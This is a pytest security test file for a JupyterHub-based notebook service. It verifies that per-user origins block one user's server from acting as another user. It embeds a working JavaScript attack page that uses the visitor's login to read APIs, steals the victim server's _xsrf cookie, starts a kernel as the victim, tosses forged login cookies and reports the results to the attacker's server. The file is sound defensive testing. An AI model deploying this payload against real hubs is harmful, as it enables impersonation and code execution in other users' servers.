"""One user's server cannot act as another user through the browser: an origin per user.

A user controls what their own server answers (it is their process: a module committed
to the project, a rewritten server, any port it takes over). Here the attacker's server
answers with a page of the test's own, as theirs would, by pointing the proxy's route of
the attacker's server at it; the routing, the origins and the cookies are the real hub's,
proxy's and browser's. A second user, logged in, with a server of their own, opens the
attacker's link in a real Chromium. The page tries what an attacker's page would: read the
hub's and the service's answers with the visitor's login, read the visitor's server through
a frame, take its `_xsrf` cookie and start a kernel there.

With an origin per user (the embedded default) every step is refused. With one origin
(`NOTEBOOKS_SINGLE_ORIGIN=1`) the same page succeeds, which is what the banner warns of, and
what shows that the attack below is real.
"""

from __future__ import annotations

import json
import os
import queue
import secrets
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser

from testing.hub import Client, RunningHub
from testing.marks import starts_hub
from testing.worlds import local_config

pytestmark = pytest.mark.browser


# what a page of the attacker's server does to whoever opens it; VICTIM is the victim's
# server URL (the naming is public), HUB the hub's origin
ATTACK = """<!doctype html><title>a notebook</title><body><script>
const VICTIM = %(victim)s, HUB = %(hub)s, LOGIN_COOKIES = %(cookies)s;
(async () => {
  const out = {};
  const step = async (name, f) => {
    try { out[name] = await f(); } catch (e) { out[name] = "refused: " + e.name; }
  };
  const said = async (r) => r.status + " " + (await r.text()).slice(0, 4000);
  await step("hub_user", async () => said(await fetch(HUB + "/hub/api/user")));
  await step("service_list", async () => said(await fetch(HUB + "/services/notebooks/",
    {headers: {Accept: "application/json"}})));
  await step("victim_contents", async () => said(await fetch(VICTIM + "api/contents/")));
  // the victim's JupyterLab in a window of its own (it refuses frames), whose _xsrf
  // cookie the page reads once the server's login with the hub is done
  const lab = window.open(VICTIM + "lab", "_blank");
  const xsrf = () => /(?:^|; )_xsrf=([^;]+)/.exec(lab.document.cookie);
  // 15 s by the clock: on a loaded machine a 250 ms timer fires late, and counting them
  // stretched this wait past the test's minute
  for (const until = Date.now() + 15000; Date.now() < until; ) {
    try { if (xsrf()) break; } catch (e) { /* not (yet) readable */ }
    await new Promise((done) => setTimeout(done, 250));
  }
  await step("victim_xsrf", async () => {
    const found = xsrf();
    return found ? decodeURIComponent(found[1]) : "none";
  });
  await step("victim_kernel", async () => said(await fetch(VICTIM + "api/kernels", {
    method: "POST", body: JSON.stringify({name: "python3"}),
    headers: {"Content-Type": "application/json", "X-XSRFToken": out.victim_xsrf},
  })));
  // cookie tossing: the hub's and the glue's login cookies, set for the hub's domain
  for (const name of LOGIN_COOKIES) {
    document.cookie = name + "=tossed; Domain=" + new URL(HUB).hostname + "; Path=/";
  }
  await fetch("report", {method: "POST", body: JSON.stringify(out)});
})();
</script></body>"""


# the names the hub and the glue read their logins from: with and without `__Host-`
LOGIN_COOKIES = [
    f"{prefix}{name}"
    for prefix in ("", "__Host-")
    for name in ("jupyterhub-hub-login", "notebooks-session")
]


class AttackerServer:
    """What the attacker's server answers: the attack page, and where its reports go."""

    def __init__(self) -> None:
        self.page = b""
        self.reports: queue.Queue[dict[str, Any]] = queue.Queue()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(outer.page)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                outer.reports.put(json.loads(body))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def take_over(hub: RunningHub, user: str, server: str, target: str) -> None:
    """Point the proxy's route of `user`'s server at `target`, as a user who controls what
    their server answers has it (the proxy's own API, with its own token)."""
    spec = next(s for s in hub.routes() if s.rstrip("/").endswith(f"/user/{user}/{server}"))
    response = hub.proxy_api("POST", f"routes{spec}", json={"target": target})
    assert response.status_code == 201, response.text


@pytest.fixture
def attacker_server() -> Iterator[AttackerServer]:
    server = AttackerServer()
    try:
        yield server
    finally:
        server.close()


@pytest.fixture(scope="module")
@starts_hub
def single_origin_hub(
    tmp_path_factory: pytest.TempPathFactory, repos: dict[str, Any]
) -> Iterator[RunningHub]:
    running = RunningHub(
        tmp_path_factory.mktemp("single-origin"),
        local_config(repos["root"]),
        extra_env={"NOTEBOOKS_SINGLE_ORIGIN": "1"},
    )
    try:
        yield running.start()
    finally:
        running.stop()


def attack(
    hub: RunningHub, browser: Browser, attacker_server: AttackerServer, repos: dict[str, Any]
) -> tuple[dict[str, Any], Client, dict[str, Any]]:
    """The attacker's link opened by a logged-in victim with a running server; what the
    page reported, the victim, and the victim's server."""
    suffix = secrets.token_hex(3)
    mallory, victim = Client(hub, f"mallory-{suffix}"), Client(hub, f"victim-{suffix}")
    sha = repos["shas"]["demo/hello"][0]
    path = f"demo/hello/{sha}"
    for user in (mallory, victim):
        assert user.post(path).status_code in (201, 202)
    theirs, own = mallory.wait_running(path), victim.wait_running(path)
    attacker_server.page = (
        ATTACK
        % {
            "victim": json.dumps(hub.absolute(own["url"])),
            "hub": json.dumps(hub.url),
            "cookies": json.dumps(LOGIN_COOKIES),
        }
    ).encode()
    take_over(hub, mallory.user, theirs["name"], attacker_server.url)
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"{hub.url}/hub/login?next=/services/notebooks/")
        page.fill("#username_input", victim.user)
        page.fill("#password_input", "any password")
        page.click("#login_submit")
        page.wait_for_url(f"{hub.url}/services/notebooks/")
        page.goto(f"{hub.absolute(theirs['url'])}a-notebook")
        report = attacker_server.reports.get(timeout=60)
        # every cookie of the hub's host, whatever its path (the hub's login is on /hub/)
        host = urlsplit(hub.url).hostname
        jar = [c for c in context.cookies() if c["domain"].lstrip(".") == host]
        report["tossed"] = sorted(c["name"] for c in jar if c["value"] == "tossed")
        report["logins"] = sorted(c["name"] for c in jar if c["value"] != "tossed")
    finally:
        context.close()
    return report, victim, own


def kernels(hub: RunningHub, client: Client, server: dict[str, Any]) -> list[Any]:
    response = client.session.get(f"{hub.absolute(server['url'])}api/kernels", timeout=30)
    assert response.status_code == 200, response.text
    return list(response.json())


def test_a_page_of_another_users_server_can_act_as_nobody(
    hub: RunningHub, browser: Browser, attacker_server: AttackerServer, repos: dict[str, Any]
) -> None:
    report, victim, own = attack(hub, browser, attacker_server, repos)
    try:
        # every read with the victim's login is refused: no answer the page can read
        for step in ("hub_user", "service_list", "victim_contents"):
            assert report[step].startswith("refused"), (step, report[step])
        assert report["victim_xsrf"].startswith("refused"), report  # another origin's window
        assert not report["victim_kernel"].startswith("201"), report
        assert victim.user not in json.dumps(report)
        assert kernels(hub, victim, own) == []  # and nothing ran as the victim
        # cookies tossed onto the hub's domain do not land: browsers refuse a cookie for
        # `localhost` from `<user>.localhost` (on a real domain, over HTTPS, the hub's and the
        # glue's logins are `__Host-` cookies, which no other host can set: host_cookies)
        assert report["tossed"] == [], report
        assert {"jupyterhub-hub-login", "notebooks-session"} <= set(report["logins"]), report
    finally:
        hub.remove_all_servers(victim.user)


def test_one_origin_is_what_the_banner_warns_of(
    single_origin_hub: RunningHub,
    browser: Browser,
    attacker_server: AttackerServer,
    repos: dict[str, Any],
) -> None:
    """NOTEBOOKS_SINGLE_ORIGIN=1 (the layout before origins per user): the same page reads
    the victim's server list and starts a kernel in the victim's server."""
    hub = single_origin_hub
    report, victim, own = attack(hub, browser, attacker_server, repos)
    assert report["service_list"].startswith("200") and own["name"] in report["service_list"]
    assert report["victim_kernel"].startswith("201"), report
    assert len(kernels(hub, victim, own)) == 1


@pytest.mark.parametrize(
    ("subdomain_host", "prefixed"),
    [
        ("https://nb.example.org", True),
        ("https://localhost:8443", True),
        ("http://localhost:8000", False),  # nothing to toss onto localhost (the test above)
        ("http://nb.example.org", False),  # browsers refuse Secure cookies there
        ("", False),
    ],
)
def test_login_cookies_are_host_only_over_https(
    subdomain_host: str, prefixed: bool
) -> None:
    from glue.core.config import host_cookies

    assert host_cookies(subdomain_host) is prefixed


def test_the_banner_says_what_one_origin_allows(monkeypatch: pytest.MonkeyPatch) -> None:
    from glue.embedded.dev import origin_line

    for name in [n for n in os.environ if n.startswith("NOTEBOOKS_")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("NOTEBOOKS_PORT", "8123")
    assert origin_line("http://localhost:8123").startswith(
        "Each user's servers have an origin of their own (<user>.localhost:8123)"
    )
    monkeypatch.setenv("NOTEBOOKS_SINGLE_ORIGIN", "1")
    assert origin_line("http://localhost:8123").startswith(
        "ONE ORIGIN (NOTEBOOKS_SINGLE_ORIGIN is set)"
    )
    monkeypatch.delenv("NOTEBOOKS_SINGLE_ORIGIN")
    monkeypatch.setenv("NOTEBOOKS_LISTEN", "0.0.0.0")
    assert "has no subdomains" in origin_line("http://127.0.0.1:8123")


def test_over_https_the_glues_own_cookies_are_host_only_too() -> None:
    """The glue learns the hub's subdomain_host (the chart's env, or glue.hub.setup's for the
    embedded default) and names its session and OAuth state cookies `__Host-`, Secure, on `/`."""
    from aiohttp.test_utils import make_mocked_request

    from glue.core.config import SUBDOMAIN_HOST_ENV, load
    from glue.service.app import HubSettings
    from glue.service.auth import Auth

    config = load(str(Path(__file__).parent.parent / "values" / "embedded.yaml"))
    env = {"JUPYTERHUB_API_TOKEN": "t" * 32, SUBDOMAIN_HOST_ENV: "https://nb.example.org"}
    settings = HubSettings.from_env(config, env)
    assert settings.host_cookies is True
    assert HubSettings.from_env(config, {**env, SUBDOMAIN_HOST_ENV: ""}).host_cookies is False
    auth = Auth(
        None,  # type: ignore[arg-type]  # naming cookies never asks the hub
        service="notebooks",
        prefix=settings.prefix,
        base_url="/",
        client_id="service-notebooks",
        callback_url=settings.callback_url,
        secret=b"k" * 32,
        host_cookies=settings.host_cookies,
    )
    assert (auth.session_cookie, auth.state_cookie) == (
        "__Host-notebooks-session",
        "__Host-notebooks-oauth-state",
    )
    options = auth._cookie_options(make_mocked_request("GET", "/services/notebooks/"))
    assert options["path"] == "/" and options["secure"] is True
